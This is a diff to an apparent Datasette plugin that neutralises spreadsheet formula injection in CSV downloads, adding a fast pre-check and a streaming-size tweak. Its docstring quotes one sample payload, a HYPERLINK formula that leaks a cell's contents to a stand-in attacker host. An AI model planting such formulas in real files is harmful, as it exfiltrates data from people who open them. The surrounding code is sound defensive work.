@@ -4,7 +4,7 @@ A title such as =HYPERLINK("http://evil.example/?leak="&A1, "Click") runs when
 a reader opens the CSV in a spreadsheet. The usual rule: a text cell starting
 with =, +, -, @, tab or carriage return gets a leading apostrophe. Plain
 numbers (-3, -0.5) are left alone. Datasette writes a CSV one row per body
-message, so each message is parsed and written back row by row.
+message, so each message that may hold such a cell is parsed and written back.
 """
 import csv
 import io
@@ -14,6 +14,7 @@ from datasette import hookimpl
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?\Z")
+MAYBE_FORMULA = re.compile(r'(?:^|[,\n])"?[=+\-@\t\r]')  # a cell that may start with one of FORMULA_STARTS
 
 
 def neutralised(cell):
@@ -23,6 +24,8 @@ def neutralised(cell):
 
 
 def neutralised_csv(text):
+    if not MAYBE_FORMULA.search(text):
+        return text  # most rows: nothing to rewrite, so no parsing
     out = io.StringIO()
     writer = csv.writer(out)
     for row in csv.reader(io.StringIO(text, newline="")):
@@ -36,6 +39,9 @@ def asgi_wrapper():
         async def csv_downloads(scope, receive, send):
             if scope["type"] != "http" or not scope["path"].endswith(".csv"):
                 return await app(scope, receive, send)
+            if b"_stream=" in scope.get("query_string", b"") and b"_size=" not in scope["query_string"]:
+                # Datasette 0.65 streams a table 50 rows a query; max_returned_rows a query is ten times cheaper.
+                scope = {**scope, "query_string": scope["query_string"] + b"&_size=max"}
 
             async def send_neutralised(message):
                 if message["type"] == "http.response.body" and message.get("body"):
